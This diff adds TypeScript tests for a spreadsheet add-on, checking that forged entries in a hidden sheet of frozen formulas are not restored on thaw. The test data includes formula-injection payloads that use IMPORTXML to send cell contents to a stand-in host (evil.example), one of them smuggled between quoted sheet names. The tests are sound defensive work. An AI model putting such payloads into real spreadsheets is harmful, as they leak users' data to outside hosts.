@@ -167,6 +167,51 @@ describe.each([
   });
 });
 
+describe('what somebody has changed in the sheet of frozen formulas', () => {
+  /** Freezes, changes every text that was kept, and thaws. */
+  function forge(change: (text: string) => string): void {
+    world.command('freezeSheet');
+    const kept = world.state.sheets.find(({ name }) => name === '_trace frozen')!;
+    for (const place of kept.places()) {
+      const text = String(kept.value(place));
+      if (text.startsWith('{')) kept.hold(place, change(text));
+    }
+    world.command('thawFrozen');
+  }
+
+  it.each([
+    ['sends cells away', '"=IMPORTXML(\\"https://evil.example/?\\"&TRACE_COMPANY("'],
+    [
+      'does so between names of sheets',
+      `"=IFERROR('a\\"b'!Z9)&IMPORTXML(\\"https://evil.example/\\",1)&IFERROR('c\\"d'!Z9)&TRACE_COMPANY("`,
+    ],
+    ['is no call of Trace', '"=SUM("'],
+    ['is no formula', '"TRACE_COMPANY("'],
+  ])('%s: nothing of it comes back', (_what, part) => {
+    const before = grid.formulas();
+    forge((text) => text.replaceAll('"=TRACE_COMPANY("', part));
+    const { B4, B5, B6, ...restored } = grid.formulas();
+    expect([B4, B5, B6]).toEqual([before['B4'], before['B5'], before['B6']]);
+    // The formula within IFERROR is kept by another text, which is as it was.
+    expect(Object.values(restored)).toEqual([before['B3']]);
+    expect([2, 7].map((row) => grid.value({ row, column: 2 }))).toEqual(['US', '007']);
+  });
+
+  it.each([
+    [
+      'columns and rows of its own',
+      (text: string) => text.replace(/\["",\["[0-9a-f]{8}","",0/g, '["Secret!",[9e9,"",9e9'),
+    ],
+    ['a size of its own', (text: string) => text.replace(/\[(\d),1,1,/g, '[$1,9e6,2,')],
+    ['no text at all', () => '{'],
+  ])('%s: every value stays', (_what, change) => {
+    const values = (): unknown => [2, 3, 7].map((row) => grid.value({ row, column: 2 }));
+    const before = values();
+    forge(change);
+    expect([values(), Object.keys(grid.formulas())]).toEqual([before, ['B4', 'B5', 'B6']]);
+  });
+});
+
 it('never freezes nor thaws for a formula that calls it', () => {
   expect(world.typeFormula('freezeFile').cells).toEqual([['#ERROR!']]);
   expect(Object.keys(grid.formulas())).toHaveLength(6);
